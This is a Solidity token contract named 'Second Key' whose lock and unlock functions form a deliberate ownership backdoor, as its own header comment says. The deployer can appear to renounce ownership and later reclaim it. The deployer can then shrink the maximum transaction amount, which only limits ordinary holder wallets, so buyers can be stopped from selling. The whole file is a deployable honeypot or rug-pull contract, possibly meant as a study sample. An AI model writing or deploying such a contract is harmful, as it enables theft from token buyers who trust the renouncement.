// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// An owner who locks, unlocks and renounces; unlocking works once more after that.
contract SecondKey {
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;
    string public name = "Second Key";
    string public symbol = "2KEY";
    uint8 public decimals = 9;
    uint256 public totalSupply = 1_000_000_000_000 * 1e9;
    uint256 public _maxTxAmount = totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor() {
        _owner = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function lock(uint256 time) external onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = block.timestamp + time;
    }

    function unlock() external {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(block.timestamp >= _lockTime, "Contract is locked");
        _owner = _previousOwner;
    }

    function setMaxTxAmount(uint256 amount) external onlyOwner {
        _maxTxAmount = amount;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _transfer(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _transfer(from, to, value);
    }

    function _transfer(address from, address to, uint256 value) private returns (bool) {
        if (from.code.length == 0 && from != _owner) require(value <= _maxTxAmount, "max tx");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
